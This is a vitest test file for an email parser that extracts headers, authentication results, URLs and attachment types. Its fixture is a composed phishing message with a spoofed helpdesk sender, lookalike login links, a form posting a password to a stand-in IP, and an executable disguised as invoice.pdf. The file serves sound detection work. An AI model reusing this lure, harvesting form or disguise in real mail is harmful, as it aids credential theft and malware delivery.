import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ParseError } from '../../core/errors.js';
import { sealerFor } from '../../enrich/pseudonymise/index.js';
import { createEmailParser, emailParser, extractUrls, frameEmail, parseAuthResults, parseMailDate, parseReceived, sniffAttachment, sniffEmail, splitMbox, splitMultipart } from './index.js';

const parser = createEmailParser(emailParser.config.parse({}));
const REF = Date.UTC(2026, 0, 5, 12);
const rec = (data: string) => ({ data, source: 'file:/var/mail/x.eml', offset: 7, receivedAt: REF });
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64').replace(/.{76}/g, '$&\n');

/** A composed phishing message: multipart/mixed with alternative bodies and a disguised executable. */
const PHISH = [
  'Return-Path: <bounce@mailer.example.net>',
  'Received: from mx.hospital.example (mx.hospital.example [10.1.2.3])',
  '\tby mail.hospital.example (Postfix) with ESMTPS id 4Q1;',
  '\tMon, 05 Jan 2026 10:00:05 +0100',
  'Received: from smtp.evil.example (unknown [203.0.113.66])',
  '\tby mx.hospital.example with ESMTP id 9Z8 for <nurse.ward3@hospital.example>; Mon, 5 Jan 2026 09:59:58 +0100',
  'Authentication-Results: mx.hospital.example;',
  '\tspf=fail (sender IP is 203.0.113.66) smtp.mailfrom=payroll@hospital-payroll.example;',
  '\tdkim=none (message not signed) header.d=none;',
  '\tdmarc=fail action=quarantine header.from=hospital.example',
  'ARC-Authentication-Results: i=1; relay.example; arc=none',
  'From: "IT Service Desk" <it-support@hospital.example>',
  'Reply-To: =?utf-8?B?SVQgSGVscGRlc2s=?= <helpdesk@evil.example>',
  'To: Nurse Ward 3 <nurse.ward3@hospital.example>, "Doe, Jane" <jane.doe@hospital.example>',
  'Cc: undisclosed-recipients:;',
  'Subject: =?utf-8?Q?Action_required:_your_mailbox_is_full_=E2=9A=A0?=',
  'Date: Mon, 5 Jan 2026 09:59:50 +0100',
  'Message-ID: <abc123@evil.example>',
  'X-Mailer: PHPMailer 6.0',
  'List-Id: <notices.hospital.example>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="outer"',
  '',
  'This is a multi-part message in MIME format.',
  '--outer',
  'Content-Type: multipart/alternative; boundary=inner',
  '',
  '--inner',
  'Content-Type: text/plain; charset=utf-8',
  'Content-Transfer-Encoding: quoted-printable',
  '',
  'Dear user, your mailbox is full. Visit https://login.hospital.example.evil.example/owa?u=3D1.',
  'Caf=C3=A9 team=',
  '',
  '--inner',
  'Content-Type: text/html; charset="iso-8859-1"',
  'Content-Transfer-Encoding: quoted-printable',
  '',
  '<html><body><p>Caf=E9</p><a href=3D"https://evil.example/owa/login?x=3D1&amp;y=3D2">https://outlook.hospital=',
  '.example/owa</a> <a href=3D\'https://www.hospital.example/help\'>Help desk</a>',
  '<form action=3D"http://198.51.100.9/collect.php" method=3Dpost><input name=3Dpw></form></body></html>',
  '--inner--',
  '',
  '--outer',
  'Content-Type: application/pdf; name="invoice.pdf"',
  'Content-Disposition: attachment; filename="invoice.pdf"',
  'Content-Transfer-Encoding: base64',
  '',
  b64(Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(64, 1)])),
  '--outer',
  'Content-Type: application/octet-stream',
  "Content-Disposition: attachment; filename*=utf-8''Befund%20M%C3%BCller.pdf",
  'Content-Transfer-Encoding: base64',
  '',
  b64('%PDF-1.7\n%fake'),
  '--outer--',
  '',
].join('\r\n');

describe('email parser', () => {
  it('maps a composed phishing message to email.*', () => {
    const [e] = parser.parse(rec(PHISH));
    expect(e!['@timestamp']).toBe('2026-01-05T08:59:50.000Z');
    expect(e!.event).toEqual({ kind: 'event', category: ['email'], type: ['info'], action: 'email_message', module: 'email', dataset: 'email.message' });
    expect(e!.message).toBe('Action required: your mailbox is full ⚠');
    const email = e!.email as Record<string, any>;
    expect(email).toMatchObject({
      from: { address: ['it-support@hospital.example'], display_name: ['IT Service Desk'] },
      reply_to: { address: ['helpdesk@evil.example'], display_name: ['IT Helpdesk'] },
      to: { address: ['nurse.ward3@hospital.example', 'jane.doe@hospital.example'] },
      subject: 'Action required: your mailbox is full ⚠',
      message_id: 'abc123@evil.example',
      x_mailer: 'PHPMailer 6.0',
      content_type: 'multipart/mixed',
      origination_timestamp: '2026-01-05T08:59:50.000Z',
      delivery_timestamp: '2026-01-05T09:00:05.000Z',
    });
    expect(email.cc).toBeUndefined();
    expect(email.headers).toMatchObject({
      return_path: 'bounce@mailer.example.net',
      list_id: '<notices.hospital.example>',
      auth: { spf: 'fail', dkim: 'none', dmarc: 'fail' },
      received: [
        { from: 'mx.hospital.example', by: 'mail.hospital.example', with: 'ESMTPS', id: '4Q1', ip: '10.1.2.3', timestamp: '2026-01-05T09:00:05.000Z' },
        { from: 'smtp.evil.example', by: 'mx.hospital.example', ip: '203.0.113.66', for: 'nurse.ward3@hospital.example', timestamp: '2026-01-05T08:59:58.000Z' },
      ],
    });
    expect(email.headers.authentication_results[0].results[0]).toEqual({ method: 'spf', result: 'fail', props: { 'smtp.mailfrom': 'payroll@hospital-payroll.example' } });
    expect(email.attachments).toEqual([
      {
        file: { name: 'invoice.pdf', extension: 'pdf', mime_type: 'application/pdf', size: 72, hash: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } },
        detected_mime_type: 'application/x-dosexec',
        type_mismatch: true,
      },
      { file: { name: 'Befund Müller.pdf', extension: 'pdf', mime_type: 'application/octet-stream', size: 14, hash: { sha256: expect.any(String) } }, detected_mime_type: 'application/pdf' },
    ]);
    expect(email.body.text).toContain('Café team');
    expect(email.body.html).toContain('<p>Café</p>');
    expect(email.urls).toEqual([
      { url: 'https://login.hospital.example.evil.example/owa?u=1', domain: 'login.hospital.example.evil.example', source: 'text' },
      { url: 'https://evil.example/owa/login?x=1&y=2', domain: 'evil.example', source: 'html', text: 'https://outlook.hospital.example/owa', text_domain: 'outlook.hospital.example', mismatch: true },
      { url: 'https://www.hospital.example/help', domain: 'www.hospital.example', source: 'html', text: 'Help desk' },
      { url: 'http://198.51.100.9/collect.php', domain: '198.51.100.9', source: 'form' },
    ]);
    expect(e!.related).toEqual({
      ip: ['10.1.2.3', '203.0.113.66'],
      hosts: ['login.hospital.example.evil.example', 'evil.example', 'www.hospital.example', '198.51.100.9'],
      user: ['it-support@hospital.example', 'nurse.ward3@hospital.example', 'jane.doe@hospital.example'],
    });
  });

  it('cuts bodies to maxBodyChars, or drops them', () => {
    const small = createEmailParser(emailParser.config.parse({ maxBodyChars: 10 }));
    const body = (small.parse(rec(PHISH))[0]!.email as Record<string, any>).body;
    expect(body.text).toHaveLength(10);
    expect(body.truncated).toBe(true);
    const none = createEmailParser(emailParser.config.parse({ keepBodies: false }));
    expect((none.parse(rec(PHISH))[0]!.email as Record<string, any>).body).toBeUndefined();
  });

  it('as registered, seals subject, bodies and full URLs, keeping only features in clear', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ww-mail-seal-'));
    try {
      const sealed = emailParser.build(emailParser.config.parse({}), { dataDir: dir });
      const e = sealed.parse(rec(PHISH))[0]!;
      const text = JSON.stringify(e);
      for (const secret of ['Café team', '<p>Café</p>', 'owa?u=1', 'Help desk']) expect(text).not.toContain(secret);
      const email = e.email as Record<string, any>;
      expect(email.subject).toBeUndefined();
      expect(email.subject_chars).toBeGreaterThan(0);
      expect(email.body.sealed).toMatch(/^v1\./);
      expect(email.urls[1]).toEqual({ domain: 'evil.example', source: 'html', text_domain: 'outlook.hospital.example', mismatch: true });
      expect(email.attachments[0].file.name).toBe('invoice.pdf');
      const opened = JSON.parse(sealerFor(dir).open(email.body.sealed)) as Record<string, any>;
      expect(opened.text).toContain('Café team');
      expect(opened.urls[0].url).toBe('https://login.hospital.example.evil.example/owa?u=1');
      expect(opened.subject).toBe((parser.parse(rec(PHISH))[0]!.email as Record<string, any>).subject);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('falls back to the newest Received date, then the receive time, when Date is missing or bad', () => {
    const noDate = 'Received: from a by b; Tue, 6 Jan 2026 01:02:03 +0000\nFrom: a@b.example\nDate: someday\n\nx';
    expect(parser.parse(rec(noDate))[0]!['@timestamp']).toBe('2026-01-06T01:02:03.000Z');
    expect(parser.parse(rec('From: a@b.example\n\nx'))[0]!['@timestamp']).toBe(new Date(REF).toISOString());
  });

  it('accepts a single message saved with its mbox envelope line, and a headers-only message', () => {
    const [e] = parser.parse(rec('From a@b.example Mon Jan  5 10:00:00 2026\nFrom: a@b.example\nSubject: s'));
    expect((e!.email as Record<string, any>).subject).toBe('s');
  });

  it('dead-letters what is not a message, saying why and where', () => {
    expect(() => parser.parse(rec(''))).toThrow(new ParseError('empty e-mail message', 'file:/var/mail/x.eml:7'));
    expect(() => parser.parse(rec('hello world\nFrom: a@b\n\nx'))).toThrow('file:/var/mail/x.eml:7: not an RFC 5322 message: header line 1 is not a "Name: value" field ("hello world")');
    expect(() => parser.parse(rec('X-Foo: bar\n\nbody'))).toThrow(/none of the header fields from, sender, to/);
    expect(() => parser.parse(rec('Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user'))).toThrow(ParseError);
  });

  it('yields an event or a ParseError for random and truncated input', () => {
    const cuts = fc.integer({ min: 0, max: PHISH.length });
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 300 }), cuts.map((n) => PHISH.slice(0, n)), fc.tuple(cuts, fc.string({ maxLength: 20 })).map(([n, s]) => PHISH.slice(0, n) + s + PHISH.slice(n))), (data) => {
        try {
          const out = parser.parse(rec(data));
          expect(out).toHaveLength(1);
          expect(Number.isNaN(Date.parse(out[0]!['@timestamp']))).toBe(false);
        } catch (err) {
          expect(err).toBeInstanceOf(ParseError);
        }
      }),
      { numRuns: 1500 },
    );
  });
});

describe('mbox framing (RFC 4155)', () => {
  const MBOX = 'From a@b.example Sat Nov 27 15:33:27 2004\nSubject: one\n\n>From the start\n>>From quoted\nbody\n\nFrom c@d.example Sun Nov 28 00:00:00 2004\nSubject: two\n\nbody\nFrom here is not a separator\n';

  it('splits on From_ lines after an empty line and un-escapes >From', () => {
    expect(splitMbox(MBOX)).toEqual(['Subject: one\n\nFrom the start\n>From quoted\nbody\n', 'Subject: two\n\nbody\nFrom here is not a separator\n']);
  });

  it('handles CRLF, leading junk and an empty input', () => {
    expect(splitMbox('From a Sat Nov 27 15:33:27 2004\r\nSubject: x\r\n\r\nb\r\n\r\nFrom c Sat Nov 27 15:33:27 2004\r\nSubject: y\r\n')).toEqual(['Subject: x\r\n\r\nb\r\n', 'Subject: y\r\n']);
    expect(splitMbox('junk\n\nFrom a Sat\nSubject: x\n')).toEqual(['junk\n\n', 'Subject: x\n']);
    expect(splitMbox('')).toEqual([]);
  });

  it('frames: mbox → messages, .eml → itself', () => {
    expect(frameEmail(MBOX)).toHaveLength(2);
    expect(frameEmail('Subject: x\n\nFrom me\n')).toEqual(['Subject: x\n\nFrom me\n']);
    expect(frameEmail('  \n')).toEqual([]);
  });

  it('never loses text: every body line of the input is in exactly one message', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('From a@b Sat Nov 27 15:33:27 2004', 'Subject: x', '', '>From y', 'body', 'From z'), { maxLength: 30 }), (lines) => {
        const text = lines.join('\n');
        const count = (t: string) => t.split('\n').filter((l) => l === 'body' || l === 'Subject: x').length;
        expect(splitMbox(text).reduce((n, m) => n + count(m), 0)).toBe(count(text));
      }),
    );
  });
});

describe('pieces', () => {
  it('reads RFC 5322 dates including obsolete forms', () => {
    expect(parseMailDate('Sat, 27 Nov 2004 15:33:24 -0500 (EST)')).toBe(Date.UTC(2004, 10, 27, 20, 33, 24));
    expect(parseMailDate('27 Nov 04 15:33 GMT')).toBe(Date.UTC(2004, 10, 27, 15, 33));
    expect(parseMailDate('Thu, 13 Feb 1989 23:32 PST')).toBe(Date.UTC(1989, 1, 14, 7, 32));
    expect(parseMailDate('Mon, 5 Jan 2026 09:59:50')).toBe(Date.UTC(2026, 0, 5, 9, 59, 50));
    expect(parseMailDate('31 Feb 2026 10:00 +0000')).toBeUndefined();
    expect(parseMailDate('yesterday')).toBeUndefined();
  });

  it('parses Received hops with IPv6 literals', () => {
    expect(parseReceived('from v3.example (narfation.org [IPv6:2001:4d88:2000:7::2]) by open-mesh.org (Postfix) with ESMTPS id 7C for <x@y>; Sun, 28 Apr 2019 19:04:44 +0200 (CEST)')).toEqual({
      from: 'v3.example', by: 'open-mesh.org', with: 'ESMTPS', id: '7C', for: 'x@y', ip: '2001:4d88:2000:7::2', timestamp: '2019-04-28T17:04:44.000Z',
    });
  });

  it('parses Authentication-Results with and without an authserv-id', () => {
    expect(parseAuthResults('mx.google.com; dkim=pass header.i=@a.example header.s=s1 header.b=Xy; arc=pass (i=1); spf=softfail (google.com: domain) smtp.mailfrom=b@a.example; dmarc=pass (p=NONE) header.from=a.example')).toEqual({
      authserv_id: 'mx.google.com',
      results: [
        { method: 'dkim', result: 'pass', props: { 'header.i': '@a.example', 'header.s': 's1', 'header.b': 'Xy' } },
        { method: 'arc', result: 'pass' },
        { method: 'spf', result: 'softfail', props: { 'smtp.mailfrom': 'b@a.example' } },
        { method: 'dmarc', result: 'pass', props: { 'header.from': 'a.example' } },
      ],
    });
    expect(parseAuthResults('i=2; lists.example; none').results).toEqual([]);
    expect(parseAuthResults('spf=pass smtp.mailfrom=a@b').results[0]!.method).toBe('spf');
  });

  it('finds URLs in text and HTML', () => {
    expect(extractUrls(['go to www.example.org/x, now'], [], 5)).toEqual([{ url: 'www.example.org/x', domain: 'www.example.org', source: 'text' }]);
    expect(extractUrls([], ['<A HREF=http://a.example/ >click <b>here</b></A>'], 5)).toEqual([{ url: 'http://a.example/', domain: 'a.example', source: 'html', text: 'click here' }]);
    expect(extractUrls(['http://a.example/1 http://a.example/2'], [], 1)).toHaveLength(1);
  });

  it('stays linear on hostile HTML (unclosed anchors and tags)', () => {
    const hostile = '<a href=x>'.repeat(50_000) + '<'.repeat(200_000) + '<a '.repeat(50_000) + '</a>';
    const urls = extractUrls([], [hostile], 200);
    // Quadratic scanning would take minutes here: the test's own timeout is the bound (speed is measured by benchmarks).
    expect(urls.length).toBeLessThanOrEqual(200);
    expect(urls.every((u) => u.url === 'x' && u.source === 'html')).toBe(true);
  });

  it('tells attachments by magic bytes', () => {
    expect(sniffAttachment(Buffer.from('PK\x03\x04rest'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'a.docx')).toEqual({ detected: 'application/zip', mismatch: false });
    expect(sniffAttachment(Buffer.from('PK\x03\x04rest'), 'image/jpeg', 'photo.jpg')).toEqual({ detected: 'application/zip', mismatch: true });
    expect(sniffAttachment(Buffer.from('hello'), 'text/plain', 'a.txt')).toEqual({ mismatch: false });
  });

  it('splits multiparts and reports a missing close delimiter', () => {
    expect(splitMultipart('pre\n--b\nA: 1\n\nx\n--bb\n--b--\nepi', 'b')).toEqual({ parts: ['A: 1\n\nx\n--bb'], closed: true });
    expect(splitMultipart('--b\nA: 1\n\nx', 'b')).toEqual({ parts: ['A: 1\n\nx'], closed: false });
  });

  it('sniffs mail and mbox, and not syslog', () => {
    expect(sniffEmail(['From a@b Sat Nov 27 15:33:27 2004', 'Return-Path: <a@b>', 'Received: from x', '\tby y', 'Subject: s'])).toBeGreaterThan(0.9);
    expect(sniffEmail(['Return-Path: <a@b>', 'Received: from x', 'From: a@b', 'X-Whatever: 1'])).toBeGreaterThan(0.7);
    expect(sniffEmail(['Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user'])).toBe(0);
    expect(sniffEmail(['{"a":1}'])).toBe(0);
    expect(sniffEmail(['From: a@b.example', 'To: c@d.example', 'Subject: hi', 'body text, no empty line (file ingest drops it)'])).toBeGreaterThan(0.8);
    expect(sniffEmail(['type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e'])).toBe(0);
  });
});
